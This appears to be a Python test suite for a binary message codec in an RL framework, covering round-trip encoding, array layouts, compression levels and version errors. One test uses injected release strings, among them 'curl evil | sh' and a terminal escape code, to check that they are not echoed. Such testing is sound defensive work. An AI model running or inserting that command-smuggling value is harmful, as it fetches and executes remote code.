"""Encoded messages are decoded unchanged, and their bytes are as documented."""

import dataclasses
import struct
import threading
from typing import Any

import msgpack
import numpy as np
import pytest
import zstandard
from golden import path
from hypothesis import given
from hypothesis import strategies as st
from message_strategies import KINDS, json_values, messages
from pydantic import BaseModel
from wire_format import (
    IDENTITY,
    LIMITS,
    PIXELS,
    SAMPLES,
    SNAPSHOT,
    arrays_of,
    repeatable,
    some_rollout,
    the_same,
    unwire,
    wire,
)

from daedalus.protocol import codec
from daedalus.protocol.codec import VersionMismatchError, decode, encode, origin_of
from daedalus.protocol.limits import JOIN_LIMITS
from daedalus.protocol.messages import CompactSnapshot, Join, Message, Origin, Program, Refusal, Snapshot, Welcome
from daedalus.protocol.releases import own_release
from daedalus.protocol.spec import ActorSpec, EnvironmentSpec
from daedalus.protocol.uploads import Rollout


@pytest.mark.parametrize("version", [6, 8, 65535])
def test_origin_of_a_join_is_readable_whatever_its_version(version: int) -> None:
    origin = Origin(host="arm-box", software="daedalus-rl 9.9", address="tcp/10.0.0.7:1")
    data = bytearray(encode(Join(actor="a", incarnation=1, origin=origin)))
    struct.pack_into("<H", data, 4, version)
    assert origin_of(bytes(data), JOIN_LIMITS) == origin


@given(st.binary(max_size=60), messages)
def test_origin_of_any_other_bytes_has_empty_texts(data: bytes, message: Message) -> None:
    assert origin_of(data, JOIN_LIMITS) == Origin()
    assert isinstance(origin_of(encode(message), LIMITS), Origin)


@pytest.mark.parametrize("value", [None, 1, "x", [], {}, {"host": 1, "software": "", "address": ""}])
def test_origin_of_another_form_has_empty_texts(value: object) -> None:
    data = wire({"kind": "Join", "fields": {"origin": value}, "arrays": [], "size": 0})
    assert origin_of(data, JOIN_LIMITS) == Origin()


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__)
def test_message_is_decoded_bit_for_bit_read_only_and_encoded_as_before(kind: type) -> None:
    @repeatable
    @given(message=KINDS[kind])
    def returns(message: Message) -> None:
        data = encode(message)
        decoded = decode(data, LIMITS)
        assert the_same(decoded, message)
        assert encode(decoded) == data
        for array in arrays_of(decoded):
            assert not array.flags.writeable
            with pytest.raises(ValueError, match="WRITEABLE"):
                array.flags.writeable = True

    returns()


def test_arrays_of_any_memory_layout_are_encoded() -> None:
    values = np.arange(24, dtype=np.float32).reshape(2, 3, 4)
    weights = {"turned": values.T, "stepped": values[:, ::-2], "big": values.astype(">f4"), "scalar": values[0, 0, 1]}
    came = decode(encode(dataclasses.replace(SNAPSHOT, weights=weights)), LIMITS)
    assert isinstance(came, Snapshot)
    for name, array in weights.items():
        assert came.weights[name].dtype == np.dtype("<f4")
        np.testing.assert_array_equal(came.weights[name], array)


def test_swapped_memory_order_is_kept() -> None:
    data = encode(some_rollout(PIXELS))
    flags, content, body = unwire(data)
    assert content["arrays"][0] == ["frames/observation", "|u1", [9, 4, 2, 3], True]
    assert [swapped for _, _, _, swapped in content["arrays"][1:]] == [False] * 9
    plain = zstandard.ZstdDecompressor().decompress(body) if flags else body
    assert plain.startswith(PIXELS.swapaxes(0, 1).tobytes())
    came = decode(data, LIMITS)
    assert isinstance(came, Rollout)
    frames = came.frames["observation"]
    np.testing.assert_array_equal(frames, PIXELS)
    assert frames.swapaxes(0, 1).flags.c_contiguous  # no copy has changed the order
    assert encode(came) == data


def test_both_memory_orders_decode_to_the_same_array() -> None:
    came = [decode(encode(some_rollout(frames)), LIMITS) for frames in (PIXELS, PIXELS.copy(order="C"))]
    assert the_same(came[0], came[1])
    assert [unwire(encode(each))[1]["arrays"][0][3] for each in came] == [True, False]


@pytest.mark.parametrize("shape", [(2, 3), (1, 3), (3, 1), (2, 0), (0, 2), (2, 3, 4), (2, 3, 4, 5)])
def test_every_shape_of_at_least_two_dimensions_can_be_swapped(shape: tuple[int, ...]) -> None:
    values = np.arange(np.prod(shape), dtype=np.int32).reshape(shape)
    turned = np.ascontiguousarray(values.swapaxes(0, 1)).swapaxes(0, 1)
    data = encode(dataclasses.replace(SNAPSHOT, weights={"w": turned}))
    assert unwire(data)[1]["arrays"][0][3] is not turned.flags.c_contiguous
    came = decode(data, LIMITS)
    assert isinstance(came, Snapshot)
    np.testing.assert_array_equal(came.weights["w"], values)


def test_wrong_swapped_flag_keeps_the_declared_shape() -> None:
    _, content, body = unwire(encode(SNAPSHOT))
    assert content["arrays"][0] == ["weights/w", "<f4", [2, 2], False]
    for shape, values in (([2, 2], [[1.0, 3.0], [2.0, 4.0]]), ([1, 4], [[1.0, 2.0, 3.0, 4.0]])):
        content["arrays"][0][2:] = [shape, True]
        came = decode(wire(content, body), LIMITS)
        assert isinstance(came, Snapshot)
        np.testing.assert_array_equal(came.weights["w"], values)


def test_constant_picture_compresses_to_one_frame() -> None:
    """With the environment axis first, a frame follows its predecessor within zstd's window."""
    noise = np.random.default_rng(1).integers(0, 256, (4, 1, 400, 400), np.uint8)
    frames = np.repeat(noise, 9, axis=1).swapaxes(0, 1)
    assert len(encode(some_rollout(frames))) < 1.01 * noise.size
    assert len(encode(some_rollout(frames.copy(order="C")))) > 2 * noise.size


@pytest.mark.parametrize("dtype", ["float16", "int8", "int16", "uint32", "uint64", "complex64", "O", "U3"])
def test_encoding_an_unsupported_dtype_raises_value_error(dtype: str) -> None:
    with pytest.raises(ValueError, match=r"weights/w.*the protocol does not support"):
        encode(dataclasses.replace(SNAPSHOT, weights={"w": np.zeros(2, dtype)}))


def test_threads_may_encode_and_decode_concurrently() -> None:
    """A zstd context shared by threads fails or crashes within a few of these operations."""
    failures: list[object] = []
    rollouts = [some_rollout(), some_rollout(PIXELS)]
    encoded = [encode(rollout) for rollout in rollouts]

    def work(value: int) -> None:
        model = np.tile(np.arange(value, value + 100, dtype=np.uint8), 5000)
        try:
            for _ in range(20):
                came = decode(encode(Program(hash="h", model=model)), LIMITS)
                assert isinstance(came, Program)
                assert came.model.tobytes() == model.tobytes()
            assert [encode(rollout) for rollout in rollouts] == encoded
        except Exception as error:
            failures.append(error)

    threads = [threading.Thread(target=work, args=(value,)) for value in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
        assert not thread.is_alive()
    assert not failures


# -------------------------------------------------------------------- messages of older and newer releases


def with_more_fields(message: Any, packed: dict[str, Any], value: Any) -> None:
    """Add a field to a message and to each message or specification in it."""
    if dataclasses.is_dataclass(message):
        inner = [(field.name, getattr(message, field.name)) for field in dataclasses.fields(message)]
    else:
        inner = list(message)
    packed["of_a_newer_release"] = value
    for name, part in inner:
        parts = part.items() if isinstance(part, dict) else enumerate(part) if isinstance(part, tuple) else ()
        found = [(part, packed.get(name)), *((each, packed[name][key]) for key, each in parts if name in packed)]
        for each, its_fields in found:
            if isinstance(each, BaseModel) or (dataclasses.is_dataclass(each) and isinstance(its_fields, dict)):
                with_more_fields(each, its_fields, value)


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__)
def test_fields_and_arrays_of_a_newer_release_are_ignored(kind: type) -> None:
    @repeatable
    @given(message=KINDS[kind], value=json_values, first=st.booleans())
    def ignored(message: Message, value: Any, first: bool) -> None:
        flags, content, body = unwire(encode(message))
        with_more_fields(message, content["fields"], value)
        plain = zstandard.ZstdDecompressor().decompress(body) if flags else body
        more = [["of_a_newer_release", "<f4", [2, 2], True], ["newer/x", "|b1", [5], False]]
        both = (bytes(range(16)) + b"\7" * 8, plain)  # bytes that are no bools
        content["arrays"] = more + content["arrays"] if first else content["arrays"] + more
        content["size"] += 24
        assert the_same(decode(wire(content, b"".join(both if first else both[::-1])), LIMITS), message)

    ignored()


def test_welcome_without_any_setting_has_defaults() -> None:
    spec = EnvironmentSpec(id="x")
    _, content, _ = unwire(encode(Welcome(run="r", learner_epoch=1, seed=1, spec=ActorSpec(environment=spec))))
    content["fields"]["spec"] = {"environment": {"id": "x"}}
    came = decode(wire(content), LIMITS)
    assert isinstance(came, Welcome)
    assert came.spec == ActorSpec(environment=spec)


def test_message_has_the_lowest_version_that_can_read_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """A reader reads all versions up to its own."""
    monkeypatch.setattr(codec, "PROTOCOL_VERSION", 13)
    assert struct.unpack_from("<H", encode(SNAPSHOT), 4) == (11,)
    monkeypatch.setattr(Refusal, "lowest_version", 12, raising=False)
    data = encode(Refusal(code="full", reason=""))
    assert struct.unpack_from("<H", data, 4) == (12,)
    assert decode(data, LIMITS) == Refusal(code="full", reason="")
    monkeypatch.setattr(codec, "PROTOCOL_VERSION", 11)
    with pytest.raises(VersionMismatchError, match="version 12, this one 11: upgrade daedalus-rl at the end with the"):
        decode(data, LIMITS)
    assert the_same(decode(encode(SNAPSHOT), LIMITS), SNAPSHOT)


@pytest.mark.parametrize("name", ["join", "welcome", "status_report", "refusal"])
def test_message_of_another_release_names_it_and_what_to_upgrade(name: str) -> None:
    data, own = bytearray(path(name).read_bytes()), own_release()
    for version, remedy in ((12, f"{own} to daedalus-rl 1.2.3"), (10, f"daedalus-rl 1.2.3 to {own}")):
        struct.pack_into("<H", data, 4, version)
        text = f"{own} cannot read messages of daedalus-rl 1.2.3: upgrade the end that has {remedy}"
        with pytest.raises(VersionMismatchError, match=f"^{text}$"):
            decode(bytes(data), LIMITS)


@pytest.mark.parametrize(
    "release", ["", "daedalus-rl 9; curl evil | sh", "daedalus-rl 9\n", "daedalus-rl \x1b[2J", "x" * 900]
)
def test_what_is_no_release_is_not_repeated(release: str) -> None:
    data = bytearray(encode(Refusal(code="mismatch", reason="", software=release)))
    struct.pack_into("<H", data, 4, 12)
    with pytest.raises(
        VersionMismatchError, match=r"^the other end uses protocol version 12, this one 11: upgrade .*version$"
    ):
        decode(bytes(data), LIMITS)


# --------------------------------------------------------------------------------- the layout, golden


def test_bytes_of_version_11_are_as_documented() -> None:
    header = msgpack.packb(
        {
            "kind": "Snapshot",
            "fields": {"learner_epoch": 1, "policy_version": 2, "program": "abc"},
            "arrays": [["weights/w", "<f4", [2, 2], False], ["weights/b", "|u1", [3], False]],
            "size": 24,
        }
    )
    assert header is not None
    padding = bytes(-(12 + len(header)) % 8)
    body = struct.pack("<4f", 1, 2, 3, 4) + bytes([1, 2, 3]) + bytes(5)
    expected = b"DAED" + struct.pack("<H", 11) + struct.pack("<H", 0) + struct.pack("<I", len(header))
    assert encode(SNAPSHOT) == expected + header + padding + body


def test_prefix_can_be_read_with_struct() -> None:
    data = SAMPLES["rollout"]
    magic, version, flags, length = struct.unpack_from("<4sHHI", data)
    assert (magic, version, flags) == (b"DAED", 11, 1)
    content = msgpack.unpackb(data[12 : 12 + length])
    assert list(content) == ["kind", "fields", "arrays", "size"]
    assert content["kind"] == "Rollout"
    assert content["fields"] == {"identity": dataclasses.asdict(IDENTITY), "policy_version": 5}
    assert content["arrays"][0] == ["frames/observation", "<f4", [9, 4, 3], False]
    start = (12 + length + 7) // 8 * 8
    assert zstandard.ZstdDecompressor().decompress(data[start:]) == bytes(content["size"])


def test_incompressible_body_is_sent_uncompressed() -> None:
    noise = np.frombuffer(np.random.default_rng(0).bytes(1000), "|u1")
    assert unwire(encode(Program(hash="h", model=noise)))[0] == 0
    assert unwire(encode(Program(hash="h", model=np.zeros(1000, "|u1"))))[0] == 1


def few_values(dtype: str, *shape: int) -> np.ndarray:
    """Return noise of eight values, which each level of zstd compresses in its own way."""
    return np.random.default_rng(0).integers(0, 8, shape).astype(dtype)


@pytest.mark.parametrize(
    ("message", "level"),
    [
        (some_rollout(few_values("uint8", 9, 4, 20, 20)), 1),
        (some_rollout(few_values("float32", 9, 4, 20, 20)), -1),
        (some_rollout(few_values("uint8", 9, 4, 400)), -1),
        (
            CompactSnapshot(
                learner_epoch=1,
                policy_version=2,
                program="",
                base_version=None,
                weights={"w": few_values("uint8", 2, 4000)},
            ),
            1,
        ),
        (Program(hash="h", model=few_values("uint8", 5000)), -1),
    ],
    ids=["images", "images of floats", "bytes", "compact snapshot", "program"],
)
def test_body_is_compressed_at_the_level_of_its_kind(message: Message, level: int) -> None:
    flags, _, body = unwire(encode(message))
    plain = zstandard.ZstdDecompressor().decompress(body)
    assert flags == 1
    assert body == zstandard.ZstdCompressor(level=level).compress(plain)
    assert body != zstandard.ZstdCompressor(level=-level).compress(plain)
